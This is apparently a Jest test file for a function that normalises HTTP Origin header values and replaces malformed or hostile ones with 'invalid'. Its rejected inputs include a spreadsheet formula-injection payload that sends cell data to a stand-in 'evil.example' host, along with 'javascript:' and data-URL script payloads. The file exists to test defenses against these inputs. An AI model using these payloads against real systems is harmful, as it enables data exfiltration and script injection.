import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { anyText } from './any.text.fixture.js';
import { invalidOrigin, storedOrigin } from './origin.rule.js';

test.each([
  ['https://shop.example.com', 'https://shop.example.com'],
  ['https://shop.example.com:8443', 'https://shop.example.com:8443'],
  ['HTTPS://Shop.Example.com:443', 'https://shop.example.com'],
  ['https://shop.example.com/cart?a=1', 'https://shop.example.com'],
  ['https://user:password@shop.example.com', 'https://shop.example.com'],
  ['http://[2001:db8::1]:8080', 'http://[2001:db8::1]:8080'],
  ['http://192.168.1.7', 'http://192.168.1.7'],
  ['null', 'null'],
  ['chrome-extension://abcdefghijklmnop', 'chrome-extension://abcdefghijklmnop'],
  ['capacitor://localhost', 'capacitor://localhost'],
])('an Origin header %j is stored as %j', (header, stored) => expect(storedOrigin(header)).toBe(stored));

test.each([
  '',
  ' ',
  'invalid',
  'local',
  'other',
  'shop.example.com',
  'https://',
  'https://a;=1+1',
  'https://a"b.example.com',
  "https://a'b.example.com",
  'https://a,b.example.com',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '@SUM(1+1)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'chrome-extension://abc/;=1+1',
  `https://${'a'.repeat(300)}.example.com`,
  'x'.repeat(8_000),
])('an Origin header %j is stored as the word invalid', (header) =>
  expect(storedOrigin(header)).toBe(invalidOrigin),
);

test('for any header, the stored origin contains no quote, separator, blank, control character or formula', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        anyText(),
        fc.webUrl(),
        fc.string().map((text) => `https://${text}`),
      ),
      (header) => {
        const stored = storedOrigin(header);
        expect(stored).toMatch(/^(null|invalid|[a-z][a-z0-9+.-]*:\/\/[a-z0-9_.:[\]-]+)$/);
        expect(stored.length).toBeLessThanOrEqual(255);
      },
    ),
    { numRuns: 1_000 },
  );
});
